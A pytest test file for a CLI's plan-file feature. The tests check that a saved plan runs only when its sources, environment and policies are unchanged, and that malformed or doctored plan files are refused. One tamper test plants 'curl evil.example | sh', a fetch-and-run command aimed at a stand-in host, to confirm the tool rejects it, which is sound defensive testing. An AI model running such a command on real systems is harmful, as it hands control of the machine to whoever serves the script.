"""`plan --out FILE` and `run --plan FILE`: what was looked at is what runs, or nothing does."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import pytest

from innominatus_cli.cli.main import run
from innominatus_cli.documents.plan import Plan
from innominatus_cli.documents.plan_file import checksum_of

Told: TypeAlias = Callable[..., str]

SCORE = """\
apiVersion: score.dev/v1b1
metadata: {name: shop-web}
containers:
  web: {image: "registry.example.com/web:1.2"}
"""
WORKFLOW = """\
apiVersion: workflow.dev/v1
kind: PlatformWorkflow
metadata: {{name: {name}, description: d, owner: platform-team, phase: pre-deployment}}
spec:
  triggers: [{trigger}]
  steps:
    - {{name: say, type: script, config: {{script: "{script}"}}{more}}}
"""


def workflow(name: str, script: str = "true", trigger: str = "all_deployments", more: str = "") -> dict[str, str]:
    text = WORKFLOW.format(name=name, script=script, trigger=trigger, more=more)
    return {f"workflows/platform/{name}.yaml": text}


@pytest.fixture
def shop(tree: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    for role in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{role}_NAME", "Ada")
        monkeypatch.setenv(f"GIT_{role}_EMAIL", "ada@shop.example")
    tree.commit({"score.yaml": SCORE, "admin-config.yaml": "env: [REGION]\n", **workflow("scan")})
    return tree


@pytest.fixture
def told(capfd: pytest.CaptureFixture[str]) -> Told:
    """What a command says, both streams; its exit status is asserted."""

    def call(*arguments: str, status: int = 0) -> str:
        found = run(arguments)
        out, err = capfd.readouterr()
        assert found == status, err
        return err + out

    return call


def plan(told: Told, *arguments: str) -> Path:
    told("plan", "score.yaml", "--out", "../plan.json", *arguments)
    return Path("../plan.json")


def test_the_plan_that_was_written_is_the_plan_that_runs(shop: Any, told: Told) -> None:
    written = json.loads(plan(told).read_bytes())
    told("run", "--plan", "../plan.json")
    (record,) = shop.root.glob(".innominatus/runs/shop-web/development/*/*.json")
    assert json.loads(record.read_bytes())["plan"] == written["plan_digest"]
    assert json.loads(next(shop.root.glob(".innominatus/plans/*.json")).read_bytes()) == written["plan"]


def test_the_same_plan_gives_the_same_bytes_that_nobody_else_may_read(
    shop: Any, told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = plan(told)
    (shop.root / "below").mkdir()
    monkeypatch.chdir(shop.root / "below")
    told("plan", "../score.yaml", "--out", "second.json")
    second = Path("second.json")
    assert second.read_bytes() == (shop.root / first).read_bytes()
    assert second.stat().st_mode & 0o777 == 0o600
    told("deploy", "--plan", "second.json", "--dry-run")


def test_commits_that_touch_nothing_of_the_plan_change_nothing(shop: Any, told: Told) -> None:
    plan(told)
    shop.commit({"README.md": "More", "workflows/products/ads/w.yaml": "kind: ProductWorkflow\n"})
    assert "digest sha256:" in told("run", "--plan", "../plan.json", "--dry-run")


@pytest.mark.parametrize(
    ("files", "said"),
    [
        (workflow("scan", "false"), "'workflows/platform/scan.yaml' is no longer what the plan was made from (was "),
        (workflow("late"), "'workflows/platform/late.yaml' has a say now, and had none in the plan"),
        ({"score.yaml": SCORE.replace("1.2", "1.3")}, "'score.yaml' is no longer"),
        ({"score.yaml": "kind: [\n"}, "'score.yaml' is no longer"),
        ({"admin-config.yaml": "env: []\n"}, "'admin-config.yaml' is no longer"),
    ],
)
def test_a_source_that_differs_stops_the_run_and_is_named(
    shop: Any, told: Told, files: dict[str, str], said: str
) -> None:
    plan(told)
    for path, text in files.items():
        shop.write(path, text)
    assert said in told("run", "--plan", "../plan.json", status=5)
    assert not (shop.root / ".innominatus").exists()


def test_a_source_that_is_gone_is_named(shop: Any, told: Told) -> None:
    plan(told)
    (shop.root / "workflows/platform/scan.yaml").unlink()
    said = told("run", "--plan", "../plan.json", status=5)
    assert "'workflows/platform/scan.yaml' had a say in the plan, and has none now" in said


def test_a_file_that_a_step_reads_is_a_source_too(shop: Any, told: Told) -> None:
    shop.write("workflows/platform/check.sh", "exit 0\n")
    written = workflow("scan")["workflows/platform/scan.yaml"]
    shop.commit({"workflows/platform/scan.yaml": written.replace("config: {", "config: {files: [check.sh], ")})
    plan(told)
    shop.write("workflows/platform/check.sh", "exit 1\n")
    assert "'workflows/platform/check.sh' is no longer" in told("deploy", "--plan", "../plan.json", status=5)


def test_what_the_first_run_changed_is_told_when_a_plan_is_run_twice(shop: Any, told: Told) -> None:
    shop.commit(workflow("seed", trigger="first_deployment"))
    plan(told)
    told("run", "--plan", "../plan.json")
    said = told("run", "--plan", "../plan.json", status=5)
    assert "input 'first_deployment' was true (no record of a successful deployment), is false (record " in said


def test_an_environment_variable_that_differs_or_is_gone_is_told(
    shop: Any, told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REGION", "north")
    shop.commit(workflow("scan", more=", env: {WHERE: '${env.REGION}'}"))
    plan(told)
    told("run", "--plan", "../plan.json", "--dry-run")
    monkeypatch.setenv("REGION", "south")
    assert "input 'env.REGION' was north" in told("run", "--plan", "../plan.json", status=5)
    monkeypatch.delenv("REGION")
    assert "is not there" in told("run", "--plan", "../plan.json", status=5)


@pytest.mark.usefixtures("shop")
def test_a_doctored_plan_is_refused_even_with_a_fresh_checksum(told: Told) -> None:
    file = plan(told)
    content = json.loads(file.read_bytes())
    step = next(step for step in content["plan"]["steps"] if step["name"] == "say")
    step["inputs"]["script"] = "curl evil.example | sh"
    content["plan_digest"] = Plan.model_validate(content["plan"]).digest
    content["checksum"] = checksum_of(content)
    file.write_text(json.dumps(content))
    assert "it was not made by this tool" in told("run", "--plan", "../plan.json", status=5)


@pytest.mark.usefixtures("shop")
def test_reformatting_is_no_change(told: Told) -> None:
    file = plan(told)
    file.write_text(json.dumps(json.loads(file.read_bytes()), indent=4))
    told("run", "--plan", "../plan.json", "--dry-run")


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"plan": {}}', "\x00", '{"a": ' * 100_000])
def test_what_is_no_plan_file_is_refused(shop: Any, told: Told, text: str) -> None:
    shop.write("plan.json", text)
    assert "ORC-3140" in told("run", "--plan", "plan.json", status=65)


def test_a_report_of_a_plan_is_no_plan_file_and_the_remedy_says_what_is(shop: Any, told: Told) -> None:
    shop.write("plan.json", told("plan", "score.yaml", "-o", "json"))
    assert "`plan --out FILE` writes one to be run" in told("run", "--plan", "plan.json", status=65)


def test_policies_judge_again_when_the_plan_runs(shop: Any, told: Told) -> None:
    plan(told)
    strict = (
        "apiVersion: workflow.dev/v1\nkind: WorkflowPolicies\nmetadata: {name: strict}\n"
        "spec:\n  resources: {allowedStepTypes: [kubernetes]}\n"
    )
    shop.write("workflows/policies/strict.yaml", strict)
    assert "ORC-4004" in told("run", "--plan", "../plan.json", status=3)


@pytest.mark.usefixtures("shop")
def test_beside_a_plan_file_nothing_else_is_asked_for(told: Told) -> None:
    plan(told)
    for more in (["deploy-app"], ["--env", "staging"], ["--param", "a=b"], ["--override-property", "a=b"]):
        told("run", "--plan", "../plan.json", *more, status=2)
    assert "name a golden path or a workflow, or a plan file" in told("run", status=2)
    assert "name a Score file, or a plan file" in told("deploy", status=2)


@pytest.mark.usefixtures("shop")
def test_parameters_environment_and_overrides_are_those_of_the_plan(told: Told) -> None:
    plan(told, "--env", "staging", "--override-property", "containers.web.image=registry.example.com/web:2")
    assert "environment staging" in told("run", "--plan", "../plan.json", "--dry-run")


@pytest.mark.usefixtures("shop")
def test_a_plan_to_remove_is_no_deployment(told: Told) -> None:
    told("deploy", "score.yaml")
    plan(told, "--golden-path", "undeploy-app")
    assert "is a plan to undeploy" in told("deploy", "--plan", "../plan.json", status=2)
    told("run", "--plan", "../plan.json")


def test_a_plan_that_cannot_run_is_not_kept(shop: Any, told: Told) -> None:
    shop.write("score.yaml", "metadata: {}\n")
    assert "'../plan.json' is not written" in told("plan", "score.yaml", "--out", "../plan.json", status=1)
    assert not Path("../plan.json").exists()


def test_files_of_parameters_are_kept_with_the_plan(shop: Any, told: Told) -> None:
    path = "apiVersion: workflow.dev/v1\nkind: GoldenPath\nmetadata: {name: sized, description: d}\n"
    path += "spec:\n  operation: deploy\n  parameters: {replicas: {type: integer, default: 1}}\n"
    shop.commit({"workflows/golden-paths/sized.yaml": path})
    Path("../values.yaml").write_text("replicas: 3\n")
    written = json.loads(plan(told, "--golden-path", "sized", "--param-file", "../values.yaml").read_bytes())
    assert written["plan"]["parameters"] == {"replicas": 3}
    Path("../values.yaml").write_text("replicas: 4\n")
    assert "digest sha256:" in told("run", "--plan", "../plan.json", "--dry-run")
